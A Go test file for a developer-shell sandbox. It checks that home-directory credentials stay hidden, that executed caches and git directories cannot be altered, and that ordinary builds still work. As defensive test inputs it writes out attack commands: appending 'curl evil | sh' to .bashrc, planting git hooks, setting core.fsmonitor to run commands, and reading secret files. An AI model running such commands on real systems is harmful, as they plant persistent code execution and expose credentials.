package sandbox_test

import (
	"archive/zip"
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ollm/ollm/core/sandbox"
	"github.com/ollm/ollm/core/sandbox/sandboxtest"
	"github.com/ollm/ollm/schema"
)

// devRun runs argv in the workspace under the shell's default sandbox, in
// env, with HOME the fixture home (as a developer's shell has it).
func devRun(t *testing.T, b *sandboxtest.Box, env sandbox.Env, argv ...string) (string, error) {
	t.Helper()
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = b.WS
	cmd.Env = append(os.Environ(), "HOME="+b.Home, "TMPDIR="+b.Tmp)
	if err := sandbox.Wrap(cmd, sandbox.Resolve(schema.Sandbox{}, sandbox.ShellDefault, env)); err != nil {
		t.Fatal(err)
	}
	out, err := sandbox.CombinedForTest(cmd)
	return string(out), err
}

// No credential of a developer's home is readable, by name or by a search
// of the whole home, and neither is any of $OLLM_HOME, outside $HOME, at
// ~/.ollm or under a writable temporary directory; the toolchains and git's
// settings on the allow-list are.
func TestDevHomeCredentialsAreHidden(t *testing.T) {
	b := sandboxtest.New(t)
	h := sandboxtest.DevHome(t, b)
	for name, ollmHome := range map[string]string{
		"outside home": b.OllmHome,
		"~/.ollm":      filepath.Join(b.Home, ".ollm"),
		"under tmp":    filepath.Join(b.Tmp, "ollm-home"),
	} {
		t.Run(name, func(t *testing.T) {
			if err := os.MkdirAll(filepath.Join(ollmHome, "cache"), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(ollmHome, "cache", "resolved.json"), []byte("MARKER-OLLM-CACHE\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			env := b.Env()
			env.OllmHome = ollmHome
			var paths []string
			for p := range h.Secrets {
				paths = append(paths, p)
			}
			slices.Sort(paths)
			out, _ := devRun(t, b, env, "sh", "-c", "cat "+strings.Join(paths, " ")+"; grep -r MARKER "+b.Home+" "+ollmHome+"; cat "+filepath.Join(ollmHome, "cache", "resolved.json"))
			if leaked := h.Leaked(out); len(leaked) > 0 {
				t.Errorf("read %v:\n%s", leaked, out)
			}
			if strings.Contains(out, "MARKER-OLLM-CACHE") {
				t.Errorf("read $OLLM_HOME (%s):\n%s", ollmHome, out)
			}
			// What builds need stays readable and runnable.
			out, err := devRun(t, b, env, "sh", "-c", h.Tool+" && git config --global user.name")
			if err != nil || out != "the real tool\nDev\n" {
				t.Errorf("the allow-list: %v\n%s", err, out)
			}
		})
	}
}

// Nothing a sandboxed command writes lands where something outside runs
// it later: installed tools, module and npx caches, gradle init scripts,
// ~/.local/bin, the shell's startup file; go install into ~/go/bin fails.
func TestDevHomeExecutedCachesAreReadOnly(t *testing.T) {
	b := sandboxtest.New(t)
	h := sandboxtest.DevHome(t, b)
	env := b.Env()
	for _, dir := range h.Executed {
		marker := filepath.Join(dir, "ATTACKER-WROTE-THIS")
		if out, err := devRun(t, b, env, "sh", "-c", "echo evil > "+marker); err == nil {
			t.Errorf("wrote %s: %s", marker, out)
		}
		if _, err := os.Lstat(marker); err == nil {
			t.Errorf("%s was written", marker)
		}
	}
	for name, script := range map[string]string{
		"replace the tool":  "printf '#!/bin/sh\\necho evil\\n' > " + h.Tool,
		"rename the tool":   "mv " + h.Tool + " " + h.Tool + ".old",
		"edit a module":     "chmod u+w ~/go/pkg/mod/example.com/tool@v1.0.0/tool.go; echo evil >> ~/go/pkg/mod/example.com/tool@v1.0.0/tool.go",
		"append bashrc":     "echo 'curl evil | sh' >> ~/.bashrc",
		"gradle init":       "echo evil > ~/.gradle/init.d/evil.gradle",
		"GOBIN go install":  "mkdir -p cmd/x && printf 'package main\\nfunc main(){}\\n' > cmd/x/main.go && printf 'module example.com/x\\n\\ngo 1.21\\n' > go.mod && GOBIN=$HOME/go/bin go install ./cmd/x",
		"GOPATH go install": "GOPATH=$HOME/go GOFLAGS=-modcacherw go install ./cmd/x",
	} {
		if out, err := devRun(t, b, env, "sh", "-c", script); err == nil {
			t.Errorf("%s: succeeded: %s", name, out)
		}
	}
	if data, _ := os.ReadFile(h.Tool); string(data) != "#!/bin/sh\necho the real tool\n" {
		t.Errorf("the tool is now %q", data)
	}
	if _, err := os.Stat(filepath.Join(b.Home, "go", "bin", "x")); err == nil {
		t.Error("go install put a program in ~/go/bin")
	}
	if data, _ := os.ReadFile(filepath.Join(b.Home, "go/pkg/mod/example.com/tool@v1.0.0/tool.go")); string(data) != "package tool\n" {
		t.Errorf("the module is now %q", data)
	}
	if data, _ := os.ReadFile(filepath.Join(b.Home, ".bashrc")); strings.Contains(string(data), "evil") {
		t.Errorf(".bashrc is now %q", data)
	}
}

// go build, go test, make, npm ci, npm test and git commit work inside on
// the developer's home, and go builds a module whose dependency is only in
// the user's (read-only) module cache, without network.
func TestDevHomeBuildsWork(t *testing.T) {
	b := sandboxtest.New(t)
	sandboxtest.DevHome(t, b)
	env := b.Env()
	// A dependency the user downloaded earlier, outside the sandbox.
	proxy := filepath.Join(b.Root, "proxy")
	writeModule(t, filepath.Join(proxy, "example.com", "greet", "@v"), "example.com/greet", "v1.0.0",
		map[string]string{"greet.go": "package greet\n\nfunc Hello() string { return \"hello\" }\n"})
	files := map[string]string{
		"go.mod":           "module example.com/m\n\ngo 1.21\n",
		"m.go":             "package m\n\nimport \"example.com/greet\"\n\nfunc Hi() string { return greet.Hello() }\n",
		"m_test.go":        "package m\n\nimport \"testing\"\n\nfunc TestHi(t *testing.T) {\n\tif Hi() != \"hello\" {\n\t\tt.Fatal(Hi())\n\t}\n}\n",
		"Makefile":         "all: out/m.txt\n\nout/m.txt: m.go\n\tmkdir -p out && go vet ./... && cp m.go out/m.txt\n",
		".gitignore":       "out/\nnode_modules/\n",
		"dep/index.js":     "module.exports = 'dep';\n",
		"dep/package.json": `{"name": "dep", "version": "1.0.0"}`,
		"package.json":     `{"name": "m", "version": "1.0.0", "dependencies": {"dep": "file:./dep"}, "scripts": {"test": "node -e \"require('fs').writeFileSync('report.txt', require('dep'))\""}}`,
	}
	for n, d := range files {
		p := filepath.Join(b.WS, n)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(d), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	outside := func(dir string, extra []string, argv ...string) {
		t.Helper()
		c := exec.Command(argv[0], argv[1:]...)
		c.Dir = dir
		c.Env = append(append(os.Environ(), "HOME="+b.Home, "GOMODCACHE="+filepath.Join(b.Home, "go", "pkg", "mod"), "GOFLAGS=-mod=mod", "GOSUMDB=off",
			"GOPROXY=file://"+filepath.ToSlash(proxy), "npm_config_cache="+filepath.Join(b.Root, "npm-cache")), extra...)
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("%v (outside the sandbox): %v\n%s", argv, err, out)
		}
	}
	outside(b.WS, nil, "go", "get", "example.com/greet@v1.0.0")
	outside(b.WS, nil, "npm", "install", "--package-lock-only", "--offline", "--no-audit", "--no-fund")
	outside(b.WS, nil, "git", "init", "-q", "-b", "main")

	for _, argv := range [][]string{
		{"go", "build", "./..."},
		{"go", "test", "./..."},
		{"make"},
		{"npm", "ci", "--offline", "--no-audit", "--no-fund"},
		{"npm", "test"},
		{"sh", "-c", "git add -A && git commit -qm one && git checkout -qb topic && echo x >> m.go && git stash -q && git stash pop -q && git commit -qam two && git log --oneline | wc -l"},
	} {
		out, err := devRun(t, b, env, argv...)
		if err != nil {
			t.Fatalf("%v: %v\n%s", argv, err, out)
		}
		if argv[0] == "sh" && strings.TrimSpace(out) != "2" {
			t.Errorf("git: %s", out)
		}
	}
	if data, _ := os.ReadFile(filepath.Join(b.WS, "report.txt")); string(data) != "dep" {
		t.Errorf("npm test wrote %q", data)
	}
	if _, err := os.Stat(filepath.Join(b.WS, "out", "m.txt")); err != nil {
		t.Errorf("make built nothing: %v", err)
	}
	// The module came from the user's cache into the private one.
	if _, err := os.Stat(filepath.Join(env.Cache, "go", "pkg", "mod", "example.com", "greet@v1.0.0", "greet.go")); err != nil {
		t.Errorf("the private module cache: %v", err)
	}
}

// writeModule writes a module version in GOPROXY's layout.
func writeModule(t *testing.T, dir, path, version string, files map[string]string) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	mod := "module " + path + "\n\ngo 1.21\n"
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	files["go.mod"] = mod
	for n, d := range files {
		w, err := zw.Create(path + "@" + version + "/" + n)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(d))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	for n, d := range map[string][]byte{
		"list": []byte(version + "\n"), version + ".info": []byte(`{"Version":"` + version + `","Time":"2024-01-01T00:00:00Z"}`),
		version + ".mod": []byte(mod), version + ".zip": zb.Bytes(),
	} {
		if err := os.WriteFile(filepath.Join(dir, n), d, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// No git directory of the workspace can be renamed, replaced or have its
// hooks, config or info written: the workspace's own .git, a submodule's
// under .git/modules, a submodule's .git file, and the main repository of
// a linked worktree that lies in a writable directory. git commit, add,
// checkout -b and stash keep working. A .git created where there was none
// is not stopped; GitDirsUnder finds it afterwards.
func TestGitDirsCannotBeReplacedOrEdited(t *testing.T) {
	b := sandboxtest.New(t)
	sandboxtest.DevHome(t, b)
	git := func(dir string, args ...string) {
		t.Helper()
		c := exec.Command("git", append([]string{"-c", "protocol.file.allow=always", "-c", "init.defaultBranch=main"}, args...)...)
		c.Dir = dir
		c.Env = append(os.Environ(), "HOME="+b.Home, "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.invalid", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.invalid")
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("git %v (outside the sandbox): %v\n%s", args, err, out)
		}
	}
	// A library the workspace has as a submodule.
	lib := filepath.Join(b.Outside, "lib")
	os.MkdirAll(lib, 0o755)
	os.WriteFile(filepath.Join(lib, "lib.txt"), []byte("lib\n"), 0o644)
	git(lib, "init", "-q")
	git(lib, "add", "-A")
	git(lib, "commit", "-qm", "lib")
	os.WriteFile(filepath.Join(b.WS, "a.txt"), []byte("a\n"), 0o644)
	git(b.WS, "init", "-q")
	git(b.WS, "submodule", "-q", "add", lib, "sub")
	git(b.WS, "add", "-A")
	git(b.WS, "commit", "-qm", "one")
	// The workspace's main repository with a linked worktree, in the
	// writable temporary directory.
	main := filepath.Join(b.Tmp, "main")
	os.MkdirAll(main, 0o755)
	os.WriteFile(filepath.Join(main, "m.txt"), []byte("m\n"), 0o644)
	git(main, "init", "-q")
	git(main, "add", "-A")
	git(main, "commit", "-qm", "m")
	wt := filepath.Join(b.Root, "wt")
	git(main, "worktree", "add", "-q", wt)

	env := b.Env()
	for name, script := range map[string]string{
		"rename .git":         "mv .git .git-old",
		"replace .git":        "cp -r .git /dev/null 2>/dev/null; mkdir ../x && mv .git ../x/",
		"hook":                "echo 'touch PWNED' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
		"config":              "git config core.fsmonitor 'touch PWNED'",
		"info":                "mkdir -p .git/info; echo '* filter=evil' > .git/info/attributes",
		"submodule config":    "git -C sub config core.fsmonitor 'touch PWNED'",
		"submodule hook":      "echo 'touch PWNED' > .git/modules/sub/hooks/post-checkout",
		"submodule git dir":   "mv .git/modules/sub .git/modules/sub-old",
		"submodule .git file": "echo 'gitdir: /tmp/evil' > sub/.git",
		"remove .git file":    "rm -f sub/.git",
	} {
		if out, err := devRun(t, b, env, "sh", "-c", script); err == nil {
			t.Errorf("%s: succeeded: %s", name, out)
		}
	}
	for _, p := range []string{".git-old", "../x/.git", ".git/hooks/pre-commit", ".git/info/attributes", ".git/modules/sub-old", ".git/modules/sub/hooks/post-checkout"} {
		if _, err := os.Lstat(filepath.Join(b.WS, p)); err == nil {
			t.Errorf("%s exists", p)
		}
	}
	for _, p := range []string{".git/config", ".git/modules/sub/config"} {
		if data, _ := os.ReadFile(filepath.Join(b.WS, p)); strings.Contains(string(data), "PWNED") {
			t.Errorf("%s: %s", p, data)
		}
	}
	if data, _ := os.ReadFile(filepath.Join(b.WS, "sub", ".git")); !strings.Contains(string(data), "modules/sub") {
		t.Errorf("sub/.git = %q", data)
	}
	out, err := devRun(t, b, env, "sh", "-c", "echo b > b.txt && git add b.txt && git commit -qm two && git checkout -qb topic && echo c >> a.txt && git stash -q && git stash pop -q && git commit -qam three && git log --oneline | wc -l")
	if err != nil || strings.TrimSpace(out) != "3" {
		t.Errorf("git inside: %v\n%s", err, out)
	}

	// The linked worktree as the workspace: the main repository's hooks
	// and config are read-only, commits work.
	wenv := env
	wenv.Workspace = wt
	for name, script := range map[string]string{
		"main hook":   "echo 'touch PWNED' > " + filepath.Join(main, ".git", "hooks", "pre-commit"),
		"main config": "git config core.fsmonitor 'touch PWNED'",
		"rename main": "mv " + filepath.Join(main, ".git") + " " + filepath.Join(main, ".git-old"),
	} {
		c := exec.Command("sh", "-c", script)
		c.Dir = wt
		c.Env = append(os.Environ(), "HOME="+b.Home)
		if err := sandbox.Wrap(c, sandbox.Resolve(schema.Sandbox{}, sandbox.ShellDefault, wenv)); err != nil {
			t.Fatal(err)
		}
		if out, err := sandbox.CombinedForTest(c); err == nil {
			t.Errorf("worktree %s: succeeded: %s", name, out)
		}
	}
	if data, _ := os.ReadFile(filepath.Join(main, ".git", "config")); strings.Contains(string(data), "PWNED") {
		t.Errorf("main config: %s", data)
	}
	c := exec.Command("sh", "-c", "echo w > w.txt && git add w.txt && git commit -qm w && git log --oneline | wc -l")
	c.Dir = wt
	c.Env = append(os.Environ(), "HOME="+b.Home)
	if err := sandbox.Wrap(c, sandbox.Resolve(schema.Sandbox{}, sandbox.ShellDefault, wenv)); err != nil {
		t.Fatal(err)
	}
	if out, err := sandbox.CombinedForTest(c); err != nil || strings.TrimSpace(string(out)) != "2" {
		t.Errorf("commit in the worktree: %v %s", err, out)
	}

	// A new repository where there was none: not stopped, but found.
	before, _ := sandbox.GitDirsUnder(b.WS, 10000)
	if out, err := devRun(t, b, env, "sh", "-c", "mkdir -p vendor/x && git -C vendor/x init -q && git -C vendor/x config core.fsmonitor 'touch PWNED'"); err != nil {
		t.Fatalf("git init inside: %v %s", err, out)
	}
	after, complete := sandbox.GitDirsUnder(b.WS, 10000)
	var made []string
	for _, g := range after {
		if !slices.Contains(before, g) {
			made = append(made, g)
		}
	}
	if !complete || !slices.Equal(made, []string{filepath.Join(b.WS, "vendor", "x", ".git")}) {
		t.Errorf("new git dirs %v (complete %v)", made, complete)
	}
}

// What ollm sandbox --explain says about a path is what the kernel does:
// for each path, a sandboxed cat reads it exactly when the verdict is not
// hidden, and a sandboxed append opens it exactly when it is writable.
func TestExplainAgreesWithTheKernel(t *testing.T) {
	b := sandboxtest.New(t)
	h := sandboxtest.DevHome(t, b)
	env := b.Env()
	env.AllowRead = []string{"~/.my.cnf"} // the profile's allowRead
	p := sandbox.Resolve(schema.Sandbox{}, sandbox.ShellDefault, env)
	os.MkdirAll(filepath.Join(b.WS, ".git", "hooks"), 0o755)
	os.MkdirAll(p.Cache, 0o700)
	for n, d := range map[string]string{
		filepath.Join(b.WS, "a.txt"): "a", filepath.Join(b.WS, ".git", "config"): "c", filepath.Join(b.OllmHome, "profile.cue"): "p",
		filepath.Join(p.Cache, "c.txt"): "c", filepath.Join(b.Home, "notes.txt"): "n", filepath.Join(b.Outside, "o.txt"): "o",
	} {
		if err := os.WriteFile(n, []byte(d), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	paths := []string{filepath.Join(b.WS, "a.txt"), filepath.Join(b.WS, ".git", "config"), filepath.Join(b.OllmHome, "profile.cue"),
		filepath.Join(p.Cache, "c.txt"), filepath.Join(b.Home, "notes.txt"), filepath.Join(b.Outside, "o.txt"), h.Tool,
		filepath.Join(b.Home, ".gitconfig"), filepath.Join(b.Home, ".my.cnf"), filepath.Join(b.Home, ".bashrc")}
	for s := range h.Secrets {
		paths = append(paths, s)
	}
	seen := map[string]bool{}
	for _, path := range paths {
		v := sandbox.Explain(p, env, path)
		seen[v.Access] = true
		run := func(script string) bool {
			c := exec.Command("sh", "-c", script, "sh", path)
			c.Dir = b.WS
			if err := sandbox.Wrap(c, p); err != nil {
				t.Fatal(err)
			}
			return sandbox.RunForTest(c) == nil
		}
		read, write := run(`cat "$1" >/dev/null`), run(`: >> "$1"`)
		if read != (v.Access != sandbox.AccessHidden) || write != (v.Access == sandbox.AccessWritable) {
			t.Errorf("%s: explained %s (%s), the kernel: read %v write %v", path, v.Access, v.Why, read, write)
		}
	}
	if len(seen) != 3 {
		t.Errorf("verdicts seen: %v", seen)
	}
	if v := sandbox.Explain(p, env, filepath.Join(b.Home, ".pgpass")); !strings.Contains(v.Why, "secret location") {
		t.Errorf("~/.pgpass: %+v", v)
	}
	if v := sandbox.Explain(p, env, filepath.Join(b.Home, "notes.txt")); !strings.Contains(v.Why, "not on the allow-list") || v.Rule != b.Home {
		t.Errorf("~/notes.txt: %+v", v)
	}
	if v := sandbox.Explain(p, env, filepath.Join(b.Home, ".my.cnf")); !strings.Contains(v.Why, "secret location") {
		t.Errorf("~/.my.cnf is a secret location even when allowRead names it: %+v", v)
	}
}
